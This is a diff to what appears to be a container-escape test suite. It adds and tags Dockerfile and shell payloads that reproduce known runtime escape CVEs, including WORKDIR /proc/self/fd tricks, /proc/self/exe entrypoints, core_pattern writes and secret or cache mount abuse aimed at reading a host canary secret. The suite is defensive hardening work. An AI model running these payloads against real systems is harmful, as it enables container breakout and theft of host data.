@@ -5,7 +5,7 @@ from collections.abc import Mapping
 
 from tests.escape.canaries import CANARY
 from tests.escape.roads import IMAGE, Road
-from tests.escape.vectors import OWN, Out, Outcome, Vector, add, contained, vector
+from tests.escape.vectors import BUILDS, OWN, Out, Outcome, Vector, add, contained, vector
 from tests.escape.world import World
 
 _STORE = "containers-storage:[overlay@/var/lib/manyoyo/podman+/run/pwned]" + IMAGE
@@ -28,7 +28,7 @@ def _build(
         assert built or builds is not True, f"it does not build, so this shows nothing: {text[-1000:]}"
         return contained("it builds, and has seen nothing" if built else "no image comes of it")
 
-    add(Vector(name, source, "builds", attempt, smoke=smoke))
+    add(Vector(name, source, "builds", attempt, roads=BUILDS, smoke=smoke))
 
 
 for _name, _from in (
@@ -117,6 +117,17 @@ _build(
     f"FROM {IMAGE}\nRUN --mount=type=secret,id=x,src={CANARY}/secret,target=/mnt/secret cat /mnt/secret || echo none\n",
 )
 _build(
+    "mount-an-agent",
+    "RUN --mount=type=ssh",
+    f"FROM {IMAGE}\nRUN --mount=type=ssh ls -lR /run; cat /mnt{CANARY}/secret; cat {CANARY}/secret || echo none\n",
+)
+_build(
+    "mount-cache-from-an-image",
+    "CVE-2024-9675, CVE-2024-23651 (a race of cache mounts)",
+    f"FROM {IMAGE} AS one\nRUN ln -s /run /link\nFROM {IMAGE}\nRUN mkdir -p /mnt\n"
+    "RUN --mount=type=cache,from=one,source=/link,target=/mnt cat /mnt/escape-canary/secret || echo none\n",
+)
+_build(
     "workdir-by-descriptor",
     "CVE-2024-21626",
     f"FROM {IMAGE}\n"
@@ -166,24 +177,24 @@ async def _poisoned(
 _TRY = f"( : >> /proc/sys/kernel/core_pattern ) 2>/dev/null && echo OUT core_pattern; cat {CANARY}/secret; ls -la /proc | head -n 5; echo TRIED"
 
 
-@vector("volume-instruction-proc", "CVE-2019-16884")
+@vector("volume-instruction-proc", "CVE-2019-16884", roads=BUILDS)
 async def volume_instruction_proc(world: World, road: Road) -> Outcome:
     return await _poisoned(world, road, f"FROM {IMAGE}\nVOLUME /proc\n", _TRY)
 
 
-@vector("proc-is-a-link", "CVE-2023-28642, CVE-2019-19921")
+@vector("proc-is-a-link", "CVE-2023-28642, CVE-2019-19921", roads=BUILDS)
 async def proc_is_a_link(world: World, road: Road) -> Outcome:
     dockerfile = f"FROM {IMAGE} AS one\nRUN mkdir -p /t/fake/sys && cp -a /bin /usr /lib* /t/ && ln -s /fake /t/proc\nFROM scratch\nCOPY --from=one /t/ /\nENV PATH=/usr/bin:/bin\n"
     return await _poisoned(world, road, dockerfile, _TRY)
 
 
-@vector("workdir-instruction", "CVE-2024-21626 (in an image)")
+@vector("workdir-instruction", "CVE-2024-21626 (in an image)", roads=BUILDS)
 async def workdir_instruction(world: World, road: Road) -> Outcome:
     script = f"pwd; for up in .. ../.. ../../..; do cat $up{CANARY}/secret; done; echo TRIED"
     return await _poisoned(world, road, f"FROM {IMAGE}\nWORKDIR /proc/self/fd/8\n", script)
 
 
-@vector("entrypoint-is-the-runtime", "CVE-2019-5736")
+@vector("entrypoint-is-the-runtime", "CVE-2019-5736", roads=BUILDS)
 async def entrypoint_is_the_runtime(world: World, road: Road) -> Outcome:
     """The image's program is /proc/self/exe, which was once the runtime itself."""
     dockerfile = f"FROM {IMAGE}\nRUN printf '#!/proc/self/exe\\n' > /exe && chmod 755 /exe\nENTRYPOINT [\"/exe\"]\n"
